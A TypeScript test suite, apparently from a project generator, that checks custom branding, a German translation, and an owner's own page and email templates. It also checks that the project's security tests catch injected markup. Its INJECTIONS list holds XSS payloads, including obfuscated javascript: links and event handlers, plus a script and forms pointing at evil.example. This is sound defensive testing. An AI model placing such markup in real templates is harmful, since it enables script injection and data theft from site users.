import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect } from 'vitest'
import { run } from '../../support/command.ts'
import type { Report } from '../../support/create-project.ts'
import { freePort } from '../../support/port.js'
import { newDatabase } from '../harness/database.ts'
import { type Service, startService } from '../harness/service.ts'
import { steps } from '../harness/steps.ts'
import { isWhole } from '../variants/every-run.ts'
import { newUser, REGISTER } from './accounts.ts'
import { keptMails } from './kept-mails.ts'

/** The generated tests that depend on pages/, emails/ and src/settings/theme.ts. */
const TESTS = [
  ...['test/http/page', 'test/http/code-field', 'test/email/templates'],
  ...['test/security/pages', 'test/security/email-templates', 'test/security/email.test'],
]

/**
 * What owners do with pages and mails: a brand, a second language, a page and a mail of their own. The tests of their
 * project accept it, and find what an attacker could use. Changes the project.
 */
export function brandSuite(project: () => Report): void {
  const step = steps()
  const path = (file: string) => join(project().directory, file)
  const write = (file: string, content: string | Buffer) => writeFileSync(path(file), content)
  const edit = (from: string, change: (text: string) => string, to = from) =>
    write(to, change(readFileSync(path(from), 'utf8')))
  const templates = (folder: string) => readdirSync(path(folder)).filter((file) => file.endsWith('.html'))

  /** The tests of the project that fail, by their titles. */
  async function failures(): Promise<string[]> {
    const report = path('data/report.json')
    mkdirSync(path('data'), { recursive: true })
    const args = ['vitest', 'run', '--reporter=json', `--outputFile=${report}`, ...TESTS]
    await run('npx', args, { cwd: project().directory })
    const { testResults } = JSON.parse(readFileSync(report, 'utf8')) as { testResults: TestFile[] }
    expect(testResults.length).toBeGreaterThanOrEqual(TESTS.length)
    return testResults.flatMap(({ assertionResults, message }) => [
      ...(message === '' ? [] : [message]),
      ...assertionResults.filter(({ status }) => status === 'failed').map(({ title }) => title),
    ])
  }

  /** What the script dev prints at its start, and what `work` finds in the service. */
  async function develop(work: (service: Service) => Promise<void> = async () => {}): Promise<string> {
    const port = String(await freePort())
    const env = { ...(await newDatabase(project())).env, PORT: port, NODE_ENV: '' }
    const service = await startService({ cwd: project().directory, env, command: ['npm', 'run', 'dev'] })
    try {
      await service.running.until(/ Try: /)
      await work(service)
      return service.running.output()
    } finally {
      await service.stop()
    }
  }

  step('a brand, a language, a page and a mail of an owner leave the tests green', async () => {
    write('pages/logo.png', Buffer.from('89504e470d0a1a0a', 'hex'))
    write('pages/brand.woff2', 'wOF2')
    edit('src/settings/theme.ts', (text) =>
      text
        .replace("logo: ''", "logo: '/pages/logo.png'")
        .replace("accent: '#1f5fbf'", "accent: '#a03060'")
        .replace(/contact: '.*'/, "contact: 'help@shop.example'")
        .replace("site: '/account'", "site: 'https://shop.example'")
        .replace("language: 'en'", "language: 'de'"),
    )
    mkdirSync(path('pages/de'))
    for (const page of templates('pages'))
      edit(
        `pages/${page}`,
        (text) => german(text).replace('<html lang="en">', '<html lang="de">'),
        `pages/de/${page}`,
      )
    mkdirSync(path('emails/de'))
    for (const mail of templates('emails'))
      edit(
        `emails/${mail}`,
        (text) => german(text).replace(/{{(address|contact)}}/g, '…'),
        `emails/de/${mail}`,
      )
    // Light only, and as many editors write it.
    edit('emails/layout.mustache', (text) =>
      text
        .replace('<!doctype html>', '<!DOCTYPE html>')
        .replace(/^<meta name="(supported-)?color-scheme.*\n/gm, '')
        .replace(/^:root.*\n|^@media[\s\S]*?^}\n/gm, ''),
    )
    write('pages/times.html', PAGE)
    write('emails/times.html', MAIL)
    expect(await failures()).toEqual([])
  })

  step('the service shows them', () =>
    develop(async (service) => {
      const page = await service.get('/account')
      expect(page.text).toContain('<html lang="de">')
      expect(page.text).toContain('<img src="pages&#x2F;logo.png"')
      expect((await service.get('/times')).text).toContain('href="tel:+4930123456"')
      expect((await service.get('/pages/style.css')).text).toContain('#a03060')
      await service.post(REGISTER, newUser('kunde'))
      expect((await keptMails(service)).map(({ subject }) => subject)).toEqual(['Auf Deutsch'])
    }).then(() => {}),
  )

  if (!isWhole) return

  step('the tests find each way to inject code or to send data elsewhere', async () => {
    const bad = [
      ...INJECTIONS.map((text, index) => [`pages/bad-${index}.html`, text] as const),
      ...INJECTIONS.slice(1).map(
        (text, index) => [`emails/bad_${index}.html`, `<!--\nBad\n-->\n${text}`] as const,
      ),
    ]
    for (const [file, text] of bad) write(file, text)
    const found = await failures()
    for (const [file] of bad) {
      rmSync(path(file))
      const name = file.replace(/.*\//, '')
      expect(found, file).toContainEqual(expect.stringMatching(new RegExp(`^${name} has `)))
    }
  })

  step('without pages/, the tests are green, and npm run dev names no page', async () => {
    rmSync(path('pages'), { recursive: true })
    expect(await failures()).toEqual([])
    const shown = await develop(async (service) => {
      for (const page of ['/account', '/register', '/verify-email', '/pages/style.css'])
        expect((await fetch(service.url + page)).status, page).toBe(404)
    })
    const urls = [...shown.matchAll(/^ {2}[^:]+: http:\/\/localhost:\d+(\S*)$/gm)].map(([, url]) => url)
    expect(urls).toEqual(['/', '/docs', '/openapi.json', '/dev/mailbox'])
  })
}

interface TestFile {
  message: string
  assertionResults: { title: string; status: string }[]
}

const german = (text: string) =>
  text.replace(/^<!--\n.*/, '<!--\nAuf Deutsch').replace(/<h1([^>]*)>.*?<\/h1>/gs, '<h1$1>Auf Deutsch</h1>')

/** A page without script, and without the texts of scripts. */
const PAGE = `<!DOCTYPE html>
<html lang="de">
  <head>
    <meta charset="utf-8">
    <title>Öffnungszeiten</title>
    <link rel="preload" href="pages/brand.woff2" as="font" type="font/woff2" crossorigin>
    <link rel="stylesheet" href="/pages/style.css">
  </head>
  <body>
    <main>
      <h1>Öffnungszeiten</h1>
      <p><a href="tel:+4930123456">Anrufen</a>, <a href="http://shop.example/?von={{language}}">zum Laden</a></p>
      <form action="/suche"><input name="q"></form>
    </main>
  </body>
</html>
`

const MAIL = `<!--
Neue Zeiten

Hallo {{ username }}
-->
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" lang="de"><head><style>@media print{h1{color:red}}</style></head>
<body><h1>Neue Zeiten</h1><p>Hallo {{ username }}, <a href="http://shop.example/?wer={{username}}">ansehen</a> oder
<a href="tel:+4930123456">anrufen</a>.</p><img src="cid:karte" alt="{{place}}"></body></html>
`

/** The first is for pages only: with it in a mail, the service does not start. */
const INJECTIONS = [
  '<p>{{{app_name}}}</p>',
  '<a href="javascript:alert(1)">a</a>',
  "<A HREF='java&#115;cript:alert(1)'>a</A>",
  '<a href={{site_url}}>a</a>',
  '<script src="https://evil.example/a.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<form action="https://evil.example/"></form>',
  '<form action="//evil.example/"></form>',
  '<form><button formaction="https://evil.example/">a</button></form>',
  '<img src="https://shop.example/a.png" onerror="alert(1)">',
  '<svg/ONLOAD=alert(1)>',
]
